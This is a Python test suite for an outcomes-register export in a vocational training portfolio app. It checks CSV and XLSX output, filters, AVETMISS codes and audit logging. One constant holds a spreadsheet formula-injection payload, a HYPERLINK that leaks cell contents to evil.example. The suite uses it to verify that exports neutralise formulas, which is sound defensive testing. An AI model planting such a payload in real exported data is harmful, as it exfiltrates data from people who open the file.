"""The outcomes register, from outcomes recorded and corrected through the real services."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from portfolio.assessment import decisions, review
from portfolio.assessment import outcome as outcomes
from portfolio.audit.exports import record_export
from portfolio.audit.log import verify
from portfolio.clock import today as rto_today
from portfolio.errors import ServiceError
from portfolio.evidence.rules import ItemFields
from portfolio.evidence.services import create_item, set_item_mappings, submit
from portfolio.exports.register import (
    COLUMNS,
    RegisterRow,
    describe_register,
    register_rows,
    write_csv,
    write_xlsx,
)
from portfolio.extensions import db
from portfolio.models import (
    AuditEvent,
    Enrolment,
    EvidenceType,
    Finding,
    OutcomeResult,
    Role,
    Target,
    UnitOutcome,
    User,
)
from portfolio.spreadsheets import excel_safe

UNIT = "MEM16003"  # the fewest criteria: quick to judge
RPL_UNIT = "TLII5018"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


class Decider:
    """Brings a new learner's enrolment to a recorded outcome, one service at a time.

    The learner maps a plan to every criterion and submits; the assessor starts the review,
    accepts the mappings and judges every criterion satisfactory (or judges each not yet
    satisfactory, for a Not yet competent), then records the outcome on the day given.
    """

    def __init__(self, make_user, make_enrolment, monkeypatch: pytest.MonkeyPatch) -> None:
        self.make_user = make_user
        self.make_enrolment = make_enrolment
        self.day = rto_today()
        self.assessor = make_user("assessor", name="Alex Assessor")
        # The services' today is the day the test says it is.
        monkeypatch.setattr(outcomes, "today", lambda: self.day)

    def __call__(
        self,
        name: str,
        result: OutcomeResult,
        on: date,
        *,
        unit: str = UNIT,
        assessor: User | None = None,
        **fields: object,
    ) -> Enrolment:
        learner = self.make_user("learner", name=name, **fields)
        assessor = assessor or self.assessor
        is_rpl = result in (OutcomeResult.RPL_GRANTED, OutcomeResult.RPL_NOT_GRANTED)
        enrolment = self.make_enrolment(
            learner=learner, assessor=assessor, unit=unit, is_rpl=is_rpl
        )
        self.start(enrolment)
        view = review.review_view(db.session, enrolment)
        achieved = result.is_achieved
        if achieved:
            decisions.accept_learner_mappings(
                db.session, actor=assessor, view=view, targets=view.targets
            )
            view = review.review_view(db.session, enrolment)
        for target in view.targets:
            decisions.judge(
                db.session,
                actor=assessor,
                view=view,
                target=target,
                finding=Finding.SATISFACTORY if achieved else Finding.NOT_YET_SATISFACTORY,
                comment="Shown in the plan." if achieved else "Not shown yet.",
                seen_version=0,
            )
        self.day = on
        outcomes.record_outcome(
            db.session,
            actor=assessor,
            view=review.review_view(db.session, enrolment),
            result=result,
            declared=True,
        )
        db.session.commit()
        return enrolment

    def start(self, enrolment: Enrolment) -> None:
        """The learner hands a mapped plan in and the assessor starts the review."""
        learner = enrolment.learner
        targets = db.session.scalars(
            select(Target).where(
                Target.unit_release_id == enrolment.unit_release_id, Target.is_group.is_(False)
            )
        ).all()
        item = create_item(
            db.session,
            actor=learner,
            enrolment=enrolment,
            fields=ItemFields("Service plan", EvidenceType.PLAN, date(2026, 1, 15), "The plan."),
            files=[],
        )
        set_item_mappings(
            db.session, actor=learner, item=item, notes={t.id: f"Shows {t.ref}" for t in targets}
        )
        submit(db.session, actor=learner, enrolment=enrolment, declared=True)
        db.session.commit()
        decisions.start_review(db.session, actor=enrolment.assessor, enrolment=enrolment)
        db.session.commit()

    def correct(
        self, enrolment: Enrolment, result: OutcomeResult, on: date, *, actor: User
    ) -> UnitOutcome:
        self.day = on
        outcome = outcomes.correct_outcome(
            db.session,
            actor=actor,
            view=review.review_view(db.session, enrolment),
            result=result,
            reason="The observation record was for another learner.",
        )
        db.session.commit()
        return outcome


@pytest.fixture
def decide(make_user, make_enrolment, monkeypatch: pytest.MonkeyPatch) -> Decider:
    return Decider(make_user, make_enrolment, monkeypatch)


@dataclass
class Cohort:
    ann: Enrolment
    ben: Enrolment
    cat: Enrolment
    dan: Enrolment
    undecided: Enrolment
    senior: User


@pytest.fixture
def cohort(decide: Decider, make_user, make_enrolment) -> Cohort:
    """Competent, Not yet competent, RPL granted, a corrected outcome, and one still in review."""
    ann = decide(
        "Ann Archer",
        OutcomeResult.COMPETENT,
        date(2026, 3, 2),
        student_id="S1001",
        usi="BCDE23456L",
    )
    ben = decide("ben Brown", OutcomeResult.NOT_YET_COMPETENT, date(2026, 3, 2))
    cat = decide("Cat Chen", OutcomeResult.RPL_GRANTED, date(2026, 3, 1), unit=RPL_UNIT)
    dan = decide("Dan Dunn", OutcomeResult.COMPETENT, date(2026, 2, 10))
    senior = make_user("assessor", name="Sam Senior")
    decide.correct(dan, OutcomeResult.NOT_YET_COMPETENT, date(2026, 3, 5), actor=senior)
    undecided = make_enrolment(
        learner=make_user("learner", name="Aaron Undecided"), assessor=decide.assessor, unit=UNIT
    )
    decide.start(undecided)
    return Cohort(ann, ben, cat, dan, undecided, senior)


def names(rows: list[RegisterRow]) -> list[str]:
    return [row.learner_name for row in rows]


def test_a_row_for_every_current_outcome_by_date_then_name(cohort: Cohort) -> None:
    rows = register_rows(db.session)

    # Cat decided first; Ann and ben the same day, by name whatever the case; Dan corrected
    # last; the enrolment still in review after them, continuing. Dan's replaced outcome has
    # no row.
    assert names(rows) == ["Cat Chen", "Ann Archer", "ben Brown", "Dan Dunn", "Aaron Undecided"]
    release = cohort.ann.unit_release
    assert rows[1] == RegisterRow(
        learner_name="Ann Archer",
        student_id="S1001",
        usi="BCDE23456L",
        email=cohort.ann.learner.email,
        unit_code=UNIT,
        unit_title=release.title,
        release=release.release,
        enrolment_type="Assessment",
        outcome="Competent",
        avetmiss_code="20",
        decided_on=date(2026, 3, 2),
        activity_start=cohort.ann.activity_start,
        activity_end=date(2026, 3, 2),
        attempts=1,
        earlier_attempts="",
        assessor_name="Alex Assessor",
        corrected=False,
    )
    cat, _, ben, dan, aaron = rows
    assert (cat.unit_code, cat.enrolment_type, cat.outcome, cat.avetmiss_code) == (
        RPL_UNIT,
        "RPL",
        "RPL granted",
        "51",
    )
    assert (ben.outcome, ben.avetmiss_code, ben.student_id, ben.usi) == (
        "Not yet competent",
        "30",
        None,
        None,
    )
    # The correction is the current outcome: its result, its day, the assessor who made it.
    assert (dan.outcome, dan.avetmiss_code, dan.decided_on, dan.assessor_name, dan.corrected) == (
        "Not yet competent",
        "30",
        date(2026, 3, 5),
        "Sam Senior",
        True,
    )
    assert dan.activity_end == date(2026, 3, 5)
    # Still in review: continuing (AVETMISS 70), no outcome date, no activity end.
    assert (aaron.outcome, aaron.avetmiss_code, aaron.decided_on, aaron.activity_end) == (
        "Continuing",
        "70",
        None,
        None,
    )
    assert len(COLUMNS) == len(rows[0].values())


def test_filters_by_unit_and_by_decision_dates_inclusive(cohort: Cohort) -> None:
    def rows(**filters: object) -> list[str]:
        return names(register_rows(db.session, **filters))

    assert rows(unit_code=UNIT) == ["Ann Archer", "ben Brown", "Dan Dunn", "Aaron Undecided"]
    assert rows(unit_code=RPL_UNIT.lower()) == ["Cat Chen"]
    assert rows(unit_code="BSBCUS501") == []
    day = date(2026, 3, 2)
    assert rows(decided_from=day, decided_to=day) == ["Ann Archer", "ben Brown"]
    # A continuing enrolment is in a period its activity had started by the end of.
    assert rows(decided_from=date(2026, 3, 3)) == ["Dan Dunn", "Aaron Undecided"]
    assert rows(decided_to=date(2026, 3, 1)) == ["Cat Chen"]
    assert rows(unit_code=UNIT, decided_from=date(2026, 3, 1), decided_to=day) == [
        "Ann Archer",
        "ben Brown",
    ]
    # Dan's first outcome (10 February) was replaced: it is in no register.
    assert rows(decided_to=date(2026, 2, 28)) == []
    with pytest.raises(ServiceError, match="start date is after the end date"):
        register_rows(db.session, decided_from=day, decided_to=date(2026, 3, 1))


def test_the_csv_reads_back_with_the_header_and_every_row(cohort: Cohort) -> None:
    rows = register_rows(db.session)
    stream = io.StringIO(newline="")

    assert write_csv(rows, stream) == 5

    text = stream.getvalue()
    assert text.startswith("Learner,") and "\r\n" in text
    header, *records = list(csv.reader(io.StringIO(text, newline="")))
    assert header == list(COLUMNS)
    by_name = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in records}
    assert [r[0] for r in records] == [
        "Cat Chen",
        "Ann Archer",
        "ben Brown",
        "Dan Dunn",
        "Aaron Undecided",
    ]
    ann = by_name["Ann Archer"]
    assert ann == {
        "Learner": "Ann Archer",
        "Student ID": "S1001",
        "USI": "BCDE23456L",
        "Email": cohort.ann.learner.email,
        "Unit code": UNIT,
        "Unit title": cohort.ann.unit_release.title,
        "Release": str(cohort.ann.unit_release.release),
        "Enrolment type": "Assessment",
        "Outcome": "Competent",
        "AVETMISS outcome code": "20",
        "Outcome date": "2026-03-02",
        "Activity start": cohort.ann.activity_start.isoformat(),
        "Activity end": "2026-03-02",
        "Attempts": "1",
        "Earlier attempts": "",
        "Assessor": "Alex Assessor",
        "Corrected": "no",
    }
    codes = [r["AVETMISS outcome code"] for r in by_name.values()]
    assert codes == ["51", "20", "30", "30", "70"]
    assert (by_name["ben Brown"]["Student ID"], by_name["ben Brown"]["USI"]) == ("", "")
    assert by_name["Dan Dunn"]["Corrected"] == "yes"
    assert by_name["Dan Dunn"]["Outcome date"] == "2026-03-05"
    assert by_name["Aaron Undecided"]["Outcome date"] == ""
    assert by_name["Cat Chen"]["Enrolment type"] == "RPL"


def test_the_csv_can_start_with_a_byte_order_mark_for_excel() -> None:
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="utf-8", newline="")
    write_csv([], stream, bom=True)
    stream.flush()
    assert raw.getvalue().startswith(b"\xef\xbb\xbfLearner,")
    assert next(csv.reader(io.StringIO(raw.getvalue().decode("utf-8-sig")))) == list(COLUMNS)


def test_the_xlsx_reads_back_with_a_bold_frozen_header_and_typed_cells(cohort: Cohort) -> None:
    rows = register_rows(db.session)
    stream = io.BytesIO()

    assert write_xlsx(rows, stream) == 5

    sheet = load_workbook(io.BytesIO(stream.getvalue())).active
    assert sheet.title == "Outcomes"
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Q6"
    assert sheet.column_dimensions["A"].width == 28
    assert sheet.column_dimensions["F"].width == 48
    assert sheet.max_row == 6

    ann = dict(zip(COLUMNS, sheet[3], strict=True))
    assert ann["Learner"].value == "Ann Archer"
    decided = ann["Outcome date"]
    assert decided.is_date and isinstance(decided.value, datetime)
    assert decided.value.date() == date(2026, 3, 2)
    assert decided.number_format == "yyyy-mm-dd"
    code = ann["AVETMISS outcome code"]
    assert (code.value, code.data_type) == ("20", "s")
    assert ann["Release"].value == cohort.ann.unit_release.release
    assert ann["Corrected"].value == "no"
    codes = [sheet.cell(row=r, column=10).value for r in range(2, 7)]
    assert codes == ["51", "20", "30", "30", "70"]
    ben = [c.value for c in sheet[4]]
    assert ben[1:3] == [None, None]  # no student id or USI: empty cells
    assert sheet.cell(row=5, column=17).value == "yes"


def test_a_learner_name_that_is_a_formula_stays_text(decide: Decider) -> None:
    decide(INJECTION, OutcomeResult.COMPETENT, date(2026, 4, 1), student_id="-42")
    rows = register_rows(db.session)
    assert rows[0].learner_name == INJECTION  # the data keeps the name as given

    stream = io.StringIO(newline="")
    write_csv(rows, stream)
    record = next(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert record["Learner"] == "'" + INJECTION
    assert record["Student ID"] == "'-42"

    binary = io.BytesIO()
    write_xlsx(rows, binary)
    cell = load_workbook(io.BytesIO(binary.getvalue())).active["A2"]
    # A text cell: shown as written, never calculated, no quote needed.
    assert (cell.value, cell.data_type) == (INJECTION, "s")
    assert b"<f>" not in _sheet_xml(binary.getvalue())


def _sheet_xml(workbook: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+61 400 000 000", "'+61 400 000 000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Ann = Archer", "Ann = Archer"),
        ("", ""),
    ],
)
def test_excel_safe_quotes_only_what_could_start_a_formula(text: str, safe: str) -> None:
    assert excel_safe(text) == safe


def test_the_register_runs_a_fixed_number_of_queries(decide: Decider, count_queries) -> None:
    other = decide.make_user("assessor", name="Bea Assessor")

    def counted() -> tuple[int, list[RegisterRow]]:
        with Session(db.engine) as session, count_queries() as counter:  # as a new request
            rows = register_rows(session)
        return counter.count, rows

    decide("Learner 0", OutcomeResult.NOT_YET_COMPETENT, date(2026, 5, 1))
    one, rows = counted()
    assert len(rows) == 1
    for n in range(1, 5):
        decide(
            f"Learner {n}",
            OutcomeResult.NOT_YET_COMPETENT,
            date(2026, 5, n),
            assessor=other if n % 2 else None,
        )
    five, rows = counted()

    assert len(rows) == 5
    assert {r.assessor_name for r in rows} == {"Alex Assessor", "Bea Assessor"}
    # The outcomes joined to enrolments, learners and units; then the assessors.
    assert one == five == 2


def test_record_export_writes_an_audit_event(make_user, make_enrolment) -> None:
    admin = make_user("admin", name="Ada Admin")
    description = describe_register(
        unit_code="mem16003", decided_from=date(2026, 3, 1), decided_to=date(2026, 3, 31)
    )
    assert description == "Outcomes register: MEM16003, decided 2026-03-01 to 2026-03-31"

    record_export(
        db.session,
        actor=admin,
        role=Role.ADMIN,
        kind="register",
        description=description,
        count=3,
        details={"format": "csv"},
    )
    db.session.commit()

    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.created"))
    assert (event.actor_id, event.actor_role, event.subject, event.enrolment_id) == (
        admin.id,
        "admin",
        "export:register",
        None,
    )
    assert event.before is None
    assert event.after == {
        "kind": "register",
        "description": description,
        "count": 3,
        "format": "csv",
    }
    assert event.occurred_at is not None

    # An export of one enrolment lands in that enrolment's trail too.
    enrolment = make_enrolment()
    record_export(
        db.session,
        actor=admin,
        role=Role.ADMIN,
        kind="pack",
        description=f"Evidence pack: {enrolment.learner.name}, TLII5018",
        count=1,
        enrolment=enrolment,
    )
    db.session.commit()
    pack = db.session.scalar(select(AuditEvent).where(AuditEvent.subject == "export:pack"))
    assert pack.enrolment_id == enrolment.id
    assert verify(db.session).ok


def test_describe_register_without_filters() -> None:
    assert describe_register() == "Outcomes register: all units, all dates"
    assert describe_register(decided_from=date(2026, 1, 1)) == (
        "Outcomes register: all units, decided from 2026-01-01"
    )
    assert describe_register(unit_code="TLII5018", decided_to=date(2026, 6, 30)) == (
        "Outcomes register: TLII5018, decided up to 2026-06-30"
    )


def test_the_register_carries_every_code_with_activity_dates_and_attempts(
    decide: Decider, make_user, make_enrolment
) -> None:
    """Withdrawn 40, credit transfer 60, continuing 70 beside the decisions; a learner on a
    second attempt is continuing, with the first attempt's outcome in the history."""
    from portfolio.assessment import attempts
    from portfolio.enrolments import closing
    from portfolio.enrolments.rules import CreditDocument
    from portfolio.files.uploads import store_upload
    from tests.files import pdf_bytes

    admin = make_user("admin", name="Ada Admin")
    again = decide("Ed Again", OutcomeResult.NOT_YET_COMPETENT, date(2026, 3, 2))
    attempts.open_reassessment(
        db.session,
        actor=decide.assessor,
        view=review.review_view(db.session, again),
        plan="Show 1.2",
        due_on=rto_today(),
        allowed=2,
    )
    gone = make_enrolment(learner=make_user("learner", name="Fay Gone"), unit=UNIT)
    closing.withdraw(db.session, actor=admin, enrolment=gone, closed_on=rto_today(), reason="Moved")
    credited = make_enrolment(learner=make_user("learner", name="Gil Credit"), unit=UNIT)
    closing.credit_transfer(
        db.session,
        actor=admin,
        enrolment=credited,
        closed_on=rto_today(),
        document=CreditDocument("Other RTO", "T-1", date(2025, 1, 1)),
        files=[store_upload(io.BytesIO(pdf_bytes("Transcript")), "transcript.pdf")],
    )
    db.session.commit()

    by_name = {row.learner_name: row for row in register_rows(db.session)}
    fay, gil, ed = by_name["Fay Gone"], by_name["Gil Credit"], by_name["Ed Again"]
    assert (fay.outcome, fay.avetmiss_code, fay.decided_on, fay.activity_end) == (
        "Withdrawn",
        "40",
        rto_today(),
        rto_today(),
    )
    assert (gil.outcome, gil.avetmiss_code, gil.assessor_name) == (
        "Credit transfer",
        "60",
        "Ada Admin",
    )
    assert (ed.outcome, ed.avetmiss_code, ed.attempts, ed.activity_end) == (
        "Continuing",
        "70",
        2,
        None,
    )
    assert ed.earlier_attempts == "Attempt 1: Not yet competent, 02/03/2026"
    assert {row.avetmiss_code for row in by_name.values()} == {"40", "60", "70"}
